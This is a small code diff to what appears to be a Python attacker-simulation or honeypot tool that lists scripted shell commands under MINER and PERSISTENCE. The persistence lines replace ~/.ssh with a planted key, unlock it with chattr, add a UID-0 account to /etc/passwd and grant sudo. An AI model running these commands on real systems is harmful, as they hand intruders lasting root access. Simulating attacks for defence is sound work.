@@ -38,8 +38,10 @@ MINER: tuple[str, ...] = (
 )
 PERSISTENCE: tuple[Line, ...] = (
     "cd ~; chattr -ia .ssh; lockr -ia .ssh",
-    'rm -rf .ssh && mkdir .ssh && echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQdemo{n} key@demo">>.ssh/authorized_keys && '
-    "chmod -R go= ~/.ssh && cd ~",
+    Paste(
+        'rm -rf .ssh && mkdir .ssh && echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQdemo{n} key@demo">>.ssh/authorized_keys && '
+        "chmod -R go= ~/.ssh && cd ~"
+    ),
     "useradd -m svc{n}",
     CTRL_C,
     "echo 'svc{n}:x:0:0::/root:/bin/bash' >> /etc/passwd; usermod -aG sudo svc{n}",
